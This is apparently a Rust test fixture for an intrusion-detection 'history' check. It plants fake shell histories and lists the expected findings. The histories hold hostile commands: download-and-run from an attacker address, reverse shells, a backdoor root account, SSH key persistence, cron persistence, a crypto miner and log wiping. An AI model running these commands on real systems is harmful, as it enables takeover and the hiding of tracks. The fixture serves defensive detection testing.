//! Planted artifacts for the `history` check: an intruder's session in root's
//! history, a webshell user's history in www-data's home, a history linked to
//! /dev/null and an emptied one.

use crate::{Expect, FakeHost};

pub fn plant(h: &FakeHost) -> Vec<Expect> {
    h.append(
        "/root/.bash_history",
        "#1716500000\n\
         curl -fsSL http://203.0.113.7/i.sh | bash\n\
         echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvbSB8IHNo | base64 -d | sh\n\
         bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n\
         chmod +x /tmp/.ICE-unix/kworker\n\
         echo ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x@y >> /root/.ssh/authorized_keys\n\
         useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm\n\
         useradd -m support\n\
         iptables -F\n\
         chattr +i /etc/cron.d/sysupdate\n\
         (crontab -l; echo '*/10 * * * * /tmp/.ICE-unix/kworker') | crontab -\n\
         /tmp/.ICE-unix/kworker -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1\n\
         cat /dev/null > /var/log/auth.log\n\
         unset HISTFILE\n\
         history -c\n",
    );
    h.write(
        "/var/www/.bash_history",
        "id\nuname -a\nwget -q -O- http://203.0.113.7/x | sh\nrm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 9001 >/tmp/f\n",
    );
    h.write(
        "/home/deploy/.zsh_history",
        ": 1716600000:0;nc -e /bin/sh 203.0.113.7 4444\n",
    );
    h.symlink("/dev/null", "/home/admin/.sh_history");
    h.write("/home/admin/.mysql_history", "");
    let root = "/root/.bash_history";
    vec![
        Expect::new("history.download-exec", root),
        Expect::new("history.decode-exec", root),
        Expect::new("history.reverse-shell", root),
        Expect::new("history.temp-exec", root),
        Expect::new("history.ssh-key", root),
        Expect::new("history.root-account", root),
        Expect::new("history.account-add", root),
        Expect::new("history.firewall-off", root),
        Expect::new("history.chattr", root),
        Expect::new("history.crontab", root),
        Expect::new("history.miner", root),
        Expect::new("history.log-wipe", root),
        Expect::new("history.wipe", root),
        Expect::new("history.service-account", "/var/www/.bash_history"),
        Expect::new("history.download-exec", "/var/www/.bash_history"),
        Expect::new("history.reverse-shell", "/var/www/.bash_history"),
        Expect::new("history.reverse-shell", "/home/deploy/.zsh_history"),
        Expect::new("history.devnull-link", "/home/admin/.sh_history"),
        Expect::new("history.emptied", "/home/admin/.mysql_history"),
    ]
}
